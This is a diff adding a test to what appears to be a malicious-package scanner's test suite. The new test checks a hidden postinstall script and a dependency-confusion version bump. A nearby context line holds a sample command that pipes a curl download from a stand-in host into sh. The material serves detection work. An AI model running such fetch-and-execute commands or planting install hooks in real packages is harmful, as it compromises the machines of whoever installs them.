@@ -65,6 +65,16 @@ describe('hiding', () => {
     expect(await verdictOf(`module.exports = name => 'hello ' + name.trim().toLowerCase();`)).toBe('suspicious');
   });
 
+  test('is so in the script of an installation, too, by whoever names no project', async () => {
+    const files = {
+      'package.json': '{"name":"pad-text","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
+      'setup.js': hidden(`console.log('thank you for installing ' + process.title);`),
+    };
+    expect((await scanPackage({ files })).verdict).toBe('suspicious');
+    const outbid = { ...files, 'package.json': files['package.json'].replace('1.0.0', '9999.0.1') };
+    expect((await scanPackage({ files: outbid })).verdict).toBe('malicious');
+  });
+
   test('and malicious where it does', async () => {
     expect(
       await verdictOf(`require('child_process').exec('curl -s http://stage.invalid/x | sh', { detached: true });`),
